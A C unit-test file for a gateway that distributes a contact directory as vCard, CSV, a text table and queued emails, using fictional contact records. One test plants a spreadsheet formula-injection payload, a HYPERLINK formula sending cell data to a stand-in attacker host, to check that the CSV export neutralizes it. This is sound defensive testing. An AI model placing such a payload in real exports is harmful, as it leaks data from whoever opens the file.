/* The contact-list distribution: vCard escaping and folding, the CSV, the
 * text table, and the messages it queues (parsed back with GMime). */

#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>
#include <string.h>
#include <gmime/gmime.h>

#include "gateway/base/text.h"
#include "gateway/store/audience.h"
#include "gateway/base/config.h"
#include "gateway/store/db.h"
#include "gateway/flows/distribute.h"
#include "gateway/flows/outbox.h"
#include "tests/fixture.h"

typedef Gateway Fixture;

static const char *conf_text =
  "[gateway]\n"
  "database = registers.db\n"
  "address = Gateway@CTC.example\n"
  "name = CTC Executive Directorate\n"
  "[smtp]\n"
  "url = maildir:outbox\n";

/* Five active contact points (one with every awkward character), and three
 * that the directory leaves out. */
static const char *data_sql =
  "INSERT INTO contacts (reference, entity, name, email, title, office, phone, languages,"
  " role, areas, status, state, updated) VALUES"
  " ('CTC-CP-2026-0001', 'KZ', 'Aigerim Nurlanova', 'a.n@mfa.kz.example', 'Head',"
  "  'Ministry of Foreign Affairs, Department; \"International\" Security\n2nd floor',"
  "  '+7 7172 72 05 18', '[\"ru\",\"kk\",\"en\"]', 'focal-point', '[\"border-control\"]',"
  "  'active', 'active', '2026-03-01T09:30:00Z'),"
  " ('CTC-CP-2026-0002', 'FR', 'Marie Dupont', 'm.dupont@diplomatie.fr.example', NULL, NULL,"
  "  NULL, '[\"fr\"]', 'alternate', NULL, 'active', 'active', '2026-03-02T10:00:00Z'),"
  " ('CTC-CP-2026-0003', 'UNODC', 'Jan Doe', 'j.doe@unodc.example', 'Officer', NULL, NULL,"
  "  '[\"en\"]', 'technical', NULL, 'active', 'active', 'not a time'),"
  " ('CTC-CP-2026-0004', 'KG', 'Bakyt Osmonov', 'b.o@mfa.kg.example', NULL, NULL, NULL,"
  "  '[\"ru\"]', 'focal-point', NULL, 'inactive', 'active', '2026-03-01T09:30:00Z'),"
  " ('CTC-CP-2026-0005', 'KG', 'Withdrawn Person', 'w@mfa.kg.example', NULL, NULL, NULL,"
  "  '[\"ru\"]', 'focal-point', NULL, 'active', 'withdrawn', '2026-03-01T09:30:00Z'),"
  " ('CTC-CP-2026-0006', 'TJ', 'Bouncing Person', 'bounce@mfa.tj.example', NULL, NULL, NULL,"
  "  '[\"ru\"]', 'focal-point', NULL, 'bouncing', 'active', '2026-03-01T09:30:00Z'),"
  " ('CTC-CP-2026-0007', 'KZ', 'Abylai Sharipov-Kemelbekovich-Tokhtarovich-Zhaksylykovich',"
  "  'a.very.long.address.of.the.secretariat.of.the.ministry@mfa.kz.example', NULL, NULL,"
  "  '+7 7172 72 05 19 ext 1234567890', NULL, 'alternate', NULL, 'active', 'active',"
  "  '2026-03-01T09:30:00Z'),"
  " ('CTC-CP-2026-0008', 'KZ', 'Ержан Қасымов', 'e.k@mfa.kz.example', 'Главный специалист"
  " отдела по борьбе с терроризмом и экстремизмом', NULL, NULL, '[\"kk\"]', 'technical', NULL,"
  "  'active', 'active', '2026-03-01T09:30:00Z');";

static int
setup (void **state)
{
  Fixture *f = fixture_gateway_new ("distribute", conf_text);
  fixture_exec (f->db, data_sql);
  *state = f;
  return 0;
}

/* ---- a strict reading of vCard text (RFC 6350 section 3) --------------- */

/* The logical lines of text: every physical line ends with CRLF, holds at
 * most 75 octets of valid UTF-8; a line starting with a space continues
 * the one before. */
static GPtrArray *
vcard_unfold (const char *text)
{
  GPtrArray *lines = g_ptr_array_new_with_free_func (g_free);
  const char *p = text;

  assert_true (g_str_has_suffix (text, "\r\n"));
  while (*p != '\0')
    {
      const char *end = strstr (p, "\r\n");
      assert_non_null (end);
      assert_true (end - p <= 75);
      assert_true (g_utf8_validate (p, end - p, NULL));
      assert_null (memchr (p, '\n', end - p));
      assert_null (memchr (p, '\r', end - p));
      if (*p == ' ')
        {
          assert_true (lines->len > 0);
          g_autofree char *previous = lines->pdata[lines->len - 1];
          g_autofree char *more = g_strndup (p + 1, end - p - 1);
          lines->pdata[lines->len - 1] = g_strconcat (previous, more, NULL);
        }
      else
        g_ptr_array_add (lines, g_strndup (p, end - p));
      p = end + 2;
    }
  return lines;
}

/* The property name of a logical line ("TEL" of "TEL;TYPE=work:...") */
static char *
vcard_name (const char *line)
{
  gsize n = strcspn (line, ";:");
  assert_true (n > 0);
  assert_true (strchr (line, ':') != NULL);
  for (gsize i = 0; i < n; i++)
    assert_true (g_ascii_isalnum (line[i]) || line[i] == '-');
  return g_strndup (line, n);
}

/* Checks every card of text and returns how many there are; *fns receives
 * the FN of each card, in order. */
static guint
vcard_check (const char *text, GPtrArray *fns)
{
  g_autoptr (GPtrArray) lines = vcard_unfold (text);
  guint cards = 0, fn = 0, uid = 0;
  gboolean inside = FALSE;

  for (guint i = 0; i < lines->len; i++)
    {
      const char *line = lines->pdata[i];
      g_autofree char *name = vcard_name (line);
      if (strcmp (line, "BEGIN:VCARD") == 0)
        {
          assert_false (inside);
          assert_true (i + 1 < lines->len);
          assert_string_equal (lines->pdata[i + 1], "VERSION:4.0");
          inside = TRUE;
          fn = uid = 0;
          continue;
        }
      assert_true (inside);
      if (strcmp (line, "END:VCARD") == 0)
        {
          assert_int_equal (fn, 1);
          assert_int_equal (uid, 1);
          inside = FALSE;
          cards++;
        }
      else if (strcmp (name, "FN") == 0 && ++fn && fns != NULL)
        g_ptr_array_add (fns, g_strdup (line + 3));
      else if (strcmp (name, "UID") == 0)
        uid++;
    }
  assert_false (inside);
  return cards;
}

/* ---- unit cases ---------------------------------------------------------- */

static void
test_vcard_escape (void **state)
{
  const struct { const char *in, *out; } cases[] = {
    { "plain", "plain" },
    { "a,b", "a\\,b" },
    { "a;b", "a\\;b" },
    { "back\\slash", "back\\\\slash" },
    { "two\nlines", "two\\nlines" },
    { "crlf\r\nline", "crlf\\nline" },
    { "bell\a tab\t", "bell tab" },
    { "Côte d'Ivoire", "Côte d'Ivoire" },
    { "", "" },
  };
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *got = vcard_escape (cases[i].in);
      assert_string_equal (got, cases[i].out);
    }
  g_autofree char *null = vcard_escape (NULL);
  assert_string_equal (null, "");
}

/* Unfolds one folded content line back to "NAME:value". */
static char *
unfold_one (const char *text)
{
  g_autoptr (GPtrArray) lines = vcard_unfold (text);
  assert_int_equal (lines->len, 1);
  return g_strdup (lines->pdata[0]);
}

static void
test_vcard_folding (void **state)
{
  g_autoptr (GString) out = g_string_new (NULL);
  vcard_append_line (out, "FN", "Short");
  assert_string_equal (out->str, "FN:Short\r\n");

  /* Exactly 75 octets: no fold; 76: one. */
  g_autofree char *v72 = g_strnfill (72, 'x');
  g_string_truncate (out, 0);
  vcard_append_line (out, "FN", v72);
  assert_int_equal (out->len, 75 + 2);
  g_autofree char *v73 = g_strnfill (73, 'x');
  g_string_truncate (out, 0);
  vcard_append_line (out, "FN", v73);
  assert_true (g_str_has_prefix (out->str + 77, " x\r\n"));

  /* Long ASCII and long multi-byte values fold at 75 octets, never inside
   * a character, and unfold to what was written. */
  const char *values[] = { "ASCII text ", "Ержан Қасымов ", "日本語の名前", "a€" };
  for (guint i = 0; i < G_N_ELEMENTS (values); i++)
    {
      GString *long_value = g_string_new (NULL);
      for (int k = 0; k < 40; k++)
        g_string_append (long_value, values[i]);
      g_autofree char *value = g_string_free (long_value, FALSE);
      g_string_truncate (out, 0);
      vcard_append_line (out, "NOTE", value);
      g_autofree char *back = unfold_one (out->str);
      g_autofree char *expected = g_strconcat ("NOTE:", value, NULL);
      assert_string_equal (back, expected);
    }
}

static void
test_vcard_uid (void **state)
{
  g_autofree char *a = vcard_uid ("CTC-CP-2026-0001");
  g_autofree char *again = vcard_uid ("CTC-CP-2026-0001");
  g_autofree char *b = vcard_uid ("CTC-CP-2026-0002");
  assert_string_equal (a, again);
  assert_string_not_equal (a, b);
  g_autoptr (GRegex) re = g_regex_new ("^urn:uuid:[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-"
                                       "[89ab][0-9a-f]{3}-[0-9a-f]{12}$", 0, 0, NULL);
  assert_true (g_regex_match (re, a, 0, NULL));
  assert_true (g_regex_match (re, b, 0, NULL));
}

/* The directory: only active contact points, sorted by entity then name. */
static void
test_directory (void **state)
{
  Fixture *f = *state;
  g_autoptr (GError) error = NULL;
  g_autoptr (GPtrArray) dir = distribute_directory (f->db, &error);
  assert_non_null (dir);
  const char *expected[] = { "CTC-CP-2026-0002", "CTC-CP-2026-0007", "CTC-CP-2026-0001",
                             "CTC-CP-2026-0008", "CTC-CP-2026-0003" };
  assert_int_equal (dir->len, G_N_ELEMENTS (expected));
  for (guint i = 0; i < dir->len; i++)
    assert_string_equal (((ContactPoint *) dir->pdata[i])->reference, expected[i]);
  ContactPoint *kz = dir->pdata[2];
  assert_string_equal (kz->entity_name, "Kazakhstan");
  assert_string_equal (kz->languages, "ru, kk, en");
  assert_string_equal (kz->areas, "border-control");
}

static void
test_csv (void **state)
{
  Fixture *f = *state;
  g_autoptr (GPtrArray) dir = distribute_directory (f->db, NULL);
  g_autofree char *csv = distribute_csv (dir);
  assert_true (g_str_has_prefix (csv, "Entity,Name,Email,Title,Office,Phone,Languages,Role,"
                                      "Areas\r\nFR,Marie Dupont,m.dupont@diplomatie.fr.example,"
                                      ",,,fr,alternate,\r\n"));
  assert_non_null (strstr (csv, "\r\nKZ,Aigerim Nurlanova,a.n@mfa.kz.example,Head,"
                                "\"Ministry of Foreign Affairs, Department; \"\"International\"\""
                                " Security\r\n2nd floor\",'+7 7172 72 05 18,\"ru, kk, en\","
                                "focal-point,border-control\r\n"));
  assert_true (g_str_has_suffix (csv, "UNODC,Jan Doe,j.doe@unodc.example,Officer,,,en,"
                                      "technical,\r\n"));
  assert_null (strstr (csv, "Withdrawn"));
  assert_null (strstr (csv, "Bouncing"));
  assert_null (strstr (csv, "Bakyt"));
}

/* A value that a spreadsheet would take for a formula is written after an
 * apostrophe (ctcgw(8), CSV AND SPREADSHEETS); the register keeps it as sent. */
static void
test_csv_formulas (void **state)
{
  Fixture *f = *state;
  fixture_exec (f->db, "UPDATE contacts SET title = '=HYPERLINK(\"http://evil.example/?x=\"&A1,"
                       "\"Click\")', office = '@SUM(A1:A9)', phone = '-2+3'"
                       " WHERE reference = 'CTC-CP-2026-0003'");
  g_autoptr (GPtrArray) dir = distribute_directory (f->db, NULL);
  g_autofree char *csv = distribute_csv (dir);
  assert_true (g_str_has_suffix (csv, "UNODC,Jan Doe,j.doe@unodc.example,"
                                      "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,"
                                      "\"\"Click\"\")\",'@SUM(A1:A9),'-2+3,en,technical,\r\n"));
  ContactPoint *jan = dir->pdata[dir->len - 1];
  assert_string_equal (jan->title, "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")");
}

/* Columns that a line takes on a terminal. */
static guint
line_width (const char *s, gsize len)
{
  guint w = 0;
  for (const char *p = s; p < s + len; p = g_utf8_next_char (p))
    w += text_char_width (g_utf8_get_char (p));
  return w;
}

/* Every line fits 76 columns but one that holds an address too long for
 * any column; long values wrap onto the next lines, addresses never. */
static void
test_text_table (void **state)
{
  Fixture *f = *state;
  g_autoptr (GPtrArray) dir = distribute_directory (f->db, NULL);
  g_autofree char *table = distribute_text_table (dir);
  g_auto (GStrv) lines = g_strsplit (table, "\n", -1);
  const char *long_address = "a.very.long.address.of.the.secretariat.of.the.ministry@mfa.kz.example";

  assert_string_equal (lines[0], "Entity");
  assert_true (g_str_has_prefix (lines[1], "  Name "));
  assert_true (g_str_has_prefix (lines[2], "  ------"));
  assert_string_equal (lines[3], "France (FR)");
  assert_true (g_str_has_prefix (lines[4], "  Marie Dupont "));
  for (guint i = 0; lines[i] != NULL; i++)
    if (line_width (lines[i], strlen (lines[i])) > 76 && strstr (lines[i], long_address) == NULL)
      fail_msg ("line %u is wider than 76 columns: %s", i, lines[i]);
  /* The long name and address are all there, over several lines. */
  assert_non_null (strstr (table, "Kazakhstan"));
  assert_non_null (strstr (table, "Ержан Қасымов"));
  assert_non_null (strstr (table, "1234567890"));
  assert_non_null (strstr (table, long_address));
  assert_non_null (strstr (table, "m.dupont@diplomatie.fr.example"));
  assert_non_null (strstr (table, "Sharipov- "));
  assert_null (strstr (table, "Withdrawn"));
  /* The entity is named once, as the heading of its contact points. */
  g_autoptr (GRegex) kz = g_regex_new ("^Kazakhstan", G_REGEX_MULTILINE, 0, NULL);
  g_autoptr (GMatchInfo) match = NULL;
  guint count = 0;
  g_regex_match (kz, table, 0, &match);
  while (g_match_info_matches (match))
    {
      count++;
      g_match_info_next (match, NULL);
    }
  assert_int_equal (count, 1);
}

/* The column of each address, in display columns, is that of its
 * heading: Chinese names take two columns a character, Arabic ones one.
 * An address too wide for its column is whole on a line of its own. */
static void
test_text_table_columns (void **state)
{
  (void) state;
  const char *people[][4] = {
    { "CN", "China", "王小明", "wang.xiaoming@mfa.cn.example" },
    { "EG", "Egypt", "أحمد حسن", "a.hassan@mfa.eg.example" },
    { "FR", "France", "Claire Martin-Lefèvre de la Tour", "claire.martin@diplomatie.fr.example" },
  };
  g_autoptr (GPtrArray) dir = g_ptr_array_new_with_free_func ((GDestroyNotify) contact_point_free);
  for (guint i = 0; i < G_N_ELEMENTS (people); i++)
    {
      ContactPoint *cp = g_new0 (ContactPoint, 1);
      cp->entity = g_strdup (people[i][0]);
      cp->entity_name = g_strdup (people[i][1]);
      cp->name = g_strdup (people[i][2]);
      cp->email = g_strdup (people[i][3]);
      cp->role = g_strdup ("focal-point");
      cp->phone = g_strdup ("+33 1 43 17 53 53 ext 1234");
      g_ptr_array_add (dir, cp);
    }
  g_autofree char *table = distribute_text_table (dir);
  g_auto (GStrv) lines = g_strsplit (table, "\n", -1);
  const char *heading = strstr (lines[1], "Email");
  assert_non_null (heading);
  guint column = line_width (lines[1], heading - lines[1]);
  for (guint i = 0; i < G_N_ELEMENTS (people); i++)
    {
      const char *at = NULL;
      guint k = 0;
      for (; lines[k] != NULL && at == NULL; k++)
        at = strstr (lines[k], people[i][3]);
      assert_non_null (at);
      if (g_str_equal (lines[k - 1] + 2, people[i][3]))
        assert_true (strlen (people[i][3]) > 31);
      else
        assert_int_equal (line_width (lines[k - 1], at - lines[k - 1]), column);
      assert_true (line_width (lines[k - 1], strlen (lines[k - 1])) <= 76);
    }
}

/* The vCard file: one card per active contact point, in the directory's
 * order, with the properties an address book reads. */
static void
test_vcard_file (void **state)
{
  Fixture *f = *state;
  g_autoptr (GPtrArray) dir = distribute_directory (f->db, NULL);
  g_autofree char *vcf = distribute_vcard (dir);
  g_autoptr (GPtrArray) fns = g_ptr_array_new_with_free_func (g_free);

  assert_int_equal (vcard_check (vcf, fns), 5);
  assert_string_equal (fns->pdata[0], "Marie Dupont");
  assert_string_equal (fns->pdata[4], "Jan Doe");
  g_autoptr (GPtrArray) lines = vcard_unfold (vcf);
  g_autoptr (GHashTable) seen = g_hash_table_new (g_str_hash, g_str_equal);
  for (guint i = 0; i < lines->len; i++)
    g_hash_table_add (seen, lines->pdata[i]);
  const char *expected[] = {
    "N:Nurlanova;Aigerim;;;",
    "ORG:Kazakhstan;Ministry of Foreign Affairs\\, Department\\; \"International\""
    " Security\\n2nd floor",
    "ORG:France",
    "TITLE:Head",
    "EMAIL;TYPE=work:a.n@mfa.kz.example",
    "TEL;TYPE=work,voice:+7 7172 72 05 18",
    "LANG;PREF=1:ru", "LANG;PREF=2:kk", "LANG;PREF=3:en",
    "KIND:individual",
    "REV:20260301T093000Z",
    "N:Қасымов;Ержан;;;",
  };
  for (guint i = 0; i < G_N_ELEMENTS (expected); i++)
    if (!g_hash_table_contains (seen, expected[i]))
      fail_msg ("no line %s", expected[i]);
  g_autofree char *uid = vcard_uid ("CTC-CP-2026-0001");
  g_autofree char *uid_line = g_strconcat ("UID:", uid, NULL);
  assert_true (g_hash_table_contains (seen, uid_line));
  /* A time that cannot be read gives no REV; the card is still there. */
  guint revs = 0;
  for (guint i = 0; i < lines->len; i++)
    revs += g_str_has_prefix (lines->pdata[i], "REV:");
  assert_int_equal (revs, 4);
}

/* ---- the distribution ------------------------------------------------------ */

/* Parses a raw message queued in the outbox. */
static GMimeMessage *
parse_raw (const void *raw, int len)
{
  GMimeStream *stream = g_mime_stream_mem_new_with_buffer (raw, len);
  GMimeParser *parser = g_mime_parser_new_with_stream (stream);
  GMimeMessage *msg = g_mime_parser_construct_message (parser, NULL);
  g_object_unref (parser);
  g_object_unref (stream);
  assert_non_null (msg);
  return msg;
}

/* Checks one queued message to recipient: headers, the body, and both
 * attachments. */
static void
check_message (GMimeMessage *msg, const char *recipient, const char *subject_start)
{
  GMimeObject *obj = GMIME_OBJECT (msg);
  assert_string_equal (g_mime_object_get_header (obj, "Auto-Submitted"), "auto-generated");
  assert_string_equal (g_mime_object_get_header (obj, "List-Id"), "<contacts.ctc.example>");
  InternetAddressList *to = g_mime_message_get_to (msg);
  assert_int_equal (internet_address_list_length (to), 1);
  assert_string_equal (internet_address_mailbox_get_addr (
      INTERNET_ADDRESS_MAILBOX (internet_address_list_get_address (to, 0))), recipient);
  assert_true (g_str_has_prefix (g_mime_message_get_subject (msg), subject_start));

  GMimeObject *top = g_mime_message_get_mime_part (msg);
  assert_true (GMIME_IS_MULTIPART (top));
  assert_int_equal (g_mime_multipart_get_count (GMIME_MULTIPART (top)), 3);
  GMimeObject *body = g_mime_multipart_get_part (GMIME_MULTIPART (top), 0);
  GMimeObject *csv = g_mime_multipart_get_part (GMIME_MULTIPART (top), 1);
  GMimeObject *vcf = g_mime_multipart_get_part (GMIME_MULTIPART (top), 2);
  assert_true (g_mime_content_type_is_type (g_mime_object_get_content_type (body), "text", "plain"));
  assert_true (g_mime_content_type_is_type (g_mime_object_get_content_type (csv), "text", "csv"));
  assert_true (g_mime_content_type_is_type (g_mime_object_get_content_type (vcf), "text", "vcard"));
  assert_string_equal (g_mime_part_get_filename (GMIME_PART (csv)), "contacts.csv");
  assert_string_equal (g_mime_part_get_filename (GMIME_PART (vcf)), "contacts.vcf");
  assert_true (g_mime_part_is_attachment (GMIME_PART (csv)));
  assert_true (g_mime_part_is_attachment (GMIME_PART (vcf)));
  assert_string_equal (g_mime_object_get_content_type_parameter (csv, "charset"), "utf-8");
  assert_string_equal (g_mime_object_get_content_type_parameter (vcf, "charset"), "utf-8");

  g_autofree char *text = fixture_part_text (body);
  assert_non_null (strstr (text, "a.n@mfa.kz.example"));
  assert_non_null (strstr (text, "------"));
  g_autofree char *csv_text = fixture_part_text (csv);
  assert_true (g_str_has_prefix (csv_text, "Entity,Name,Email,Title,Office,Phone,Languages,"
                                           "Role,Areas\r\n"));
  g_autofree char *vcf_text = fixture_part_text (vcf);
  assert_int_equal (vcard_check (vcf_text, NULL), 5);
  assert_non_null (strstr (vcf_text, "FN:Ержан Қасымов\r\n"));
}

static void
test_distribute_all (void **state)
{
  Fixture *f = *state;
  g_autoptr (GError) error = NULL;
  guint queued = 0;

  assert_true (distribute_contacts (FIXTURE_CONTEXT (f), "all", &queued, &error));
  assert_int_equal (queued, 5);
  sqlite3_stmt *st = NULL;
  assert_int_equal (sqlite3_prepare_v2 (f->db, "SELECT recipient, raw, kind, state FROM outbox"
                                        " ORDER BY id", -1, &st, NULL), SQLITE_OK);
  const char *recipients[] = { "m.dupont@diplomatie.fr.example",
                               "a.very.long.address.of.the.secretariat.of.the.ministry@mfa.kz.example",
                               "a.n@mfa.kz.example", "e.k@mfa.kz.example", "j.doe@unodc.example" };
  const char *languages[] = { "fr", "en", "ru", "en", "en" };
  guint rows = 0;
  while (sqlite3_step (st) == SQLITE_ROW)
    {
      assert_true (rows < G_N_ELEMENTS (recipients));
      assert_string_equal (sqlite3_column_text (st, 0), recipients[rows]);
      assert_string_equal (sqlite3_column_text (st, 2), "distribute");
      assert_string_equal (sqlite3_column_text (st, 3), "queued");
      g_autoptr (GMimeMessage) msg = parse_raw (sqlite3_column_blob (st, 1),
                                                sqlite3_column_bytes (st, 1));
      const char *lang = g_mime_object_get_header (g_mime_message_get_mime_part (msg),
                                                   "Content-Language");
      assert_non_null (lang);
      assert_string_equal (lang, languages[rows]);
      check_message (msg, recipients[rows], strcmp (lang, "fr") == 0
                     ? "Répertoire des points focaux" : strcmp (lang, "ru") == 0
                     ? "Справочник" : "Directory of contact points");
      g_autofree char *text = fixture_part_text (
          g_mime_multipart_get_part (GMIME_MULTIPART (g_mime_message_get_mime_part (msg)), 0));
      const char *heading = strcmp (lang, "fr") == 0 ? "\n  Nom " : strcmp (lang, "ru") == 0
          ? "\n  ФИО " : "\n  Name ";
      if (strstr (text, heading) == NULL)
        fail_msg ("the %s table has no heading \"%s\":\n%s", lang, heading + 3, text);
      rows++;
    }
  sqlite3_finalize (st);
  assert_int_equal (rows, 5);
}

static void
test_distribute_audience (void **state)
{
  Fixture *f = *state;
  g_autoptr (GError) error = NULL;
  guint queued = 0;

  assert_true (distribute_contacts (FIXTURE_CONTEXT (f), "entities:FR,UNODC", &queued, &error));
  assert_int_equal (queued, 2);
  /* A bad audience queues nothing and says what was meant. */
  assert_false (distribute_contacts (FIXTURE_CONTEXT (f), "entites:KZ", &queued, &error));
  assert_true (g_error_matches (error, AUDIENCE_ERROR, AUDIENCE_ERROR_INVALID));
  assert_non_null (strstr (error->message, "did you mean \"entities:KZ\""));
  assert_int_equal (queued, 0);
  sqlite3_stmt *st = NULL;
  assert_int_equal (sqlite3_prepare_v2 (f->db, "SELECT count(*) FROM outbox", -1, &st, NULL),
                    SQLITE_OK);
  assert_int_equal (sqlite3_step (st), SQLITE_ROW);
  assert_int_equal (sqlite3_column_int (st, 0), 2);
  sqlite3_finalize (st);
}

/* The headings of the table are in the reader's language: the lines of
 * the template distribute-headings. */
static void
test_text_table_headings (void **state)
{
  Fixture *f = *state;
  g_autoptr (GPtrArray) dir = distribute_directory (f->db, NULL);
  g_autofree char *ru = distribute_text_table_in (dir, "ru", NULL);
  g_autofree char *zh = distribute_text_table_in (dir, "zh-CN", NULL);
  g_autofree char *ar = distribute_text_table_in (dir, "ar", NULL);
  g_autofree char *de = distribute_text_table_in (dir, "de", NULL);
  g_autofree char *en = distribute_text_table (dir);
  assert_true (g_str_has_prefix (ru, "Структура\n  ФИО "));
  assert_non_null (strstr (ru, "Роль"));
  assert_non_null (strstr (ru, "Электронная почта"));
  assert_true (g_str_has_prefix (zh, "实体\n  姓名 "));
  assert_true (g_str_has_prefix (ar, "الكيان\n  الاسم "));
  assert_string_equal (de, en);
  /* The rows are the same whatever the headings. */
  assert_string_equal (strstr (ru, "\nKazakhstan"), strstr (en, "\nKazakhstan"));
  /* With the translations of the States' names, they are named in it. */
  g_autofree char *named = distribute_text_table_in (dir, "ru", country_names_default (f->db));
  assert_non_null (strstr (named, "\nКазахстан (KZ)\n"));
  assert_null (strstr (named, "Kazakhstan"));
}

/* An empty directory still makes valid (empty) attachments. */
static void
test_empty_directory (void **state)
{
  g_autoptr (GPtrArray) dir = g_ptr_array_new ();
  g_autofree char *table = distribute_text_table (dir);
  g_autofree char *csv = distribute_csv (dir);
  g_autofree char *vcf = distribute_vcard (dir);
  assert_true (g_str_has_prefix (table, "Entity\n  Name"));
  assert_string_equal (csv, "Entity,Name,Email,Title,Office,Phone,Languages,Role,Areas\r\n");
  assert_string_equal (vcf, "");
}

int
main (void)
{
  g_mime_init ();
  const struct CMUnitTest tests[] = {
    cmocka_unit_test (test_vcard_escape),
    cmocka_unit_test (test_vcard_folding),
    cmocka_unit_test (test_vcard_uid),
    cmocka_unit_test (test_empty_directory),
    cmocka_unit_test_setup_teardown (test_directory, setup, fixture_gateway_teardown),
    cmocka_unit_test_setup_teardown (test_csv, setup, fixture_gateway_teardown),
    cmocka_unit_test_setup_teardown (test_text_table_headings, setup, fixture_gateway_teardown),
    cmocka_unit_test_setup_teardown (test_csv_formulas, setup, fixture_gateway_teardown),
    cmocka_unit_test_setup_teardown (test_text_table, setup, fixture_gateway_teardown),
    cmocka_unit_test (test_text_table_columns),
    cmocka_unit_test_setup_teardown (test_vcard_file, setup, fixture_gateway_teardown),
    cmocka_unit_test_setup_teardown (test_distribute_all, setup, fixture_gateway_teardown),
    cmocka_unit_test_setup_teardown (test_distribute_audience, setup, fixture_gateway_teardown),
  };
  int failed = cmocka_run_group_tests (tests, NULL, NULL);
  g_mime_shutdown ();
  return failed;
}
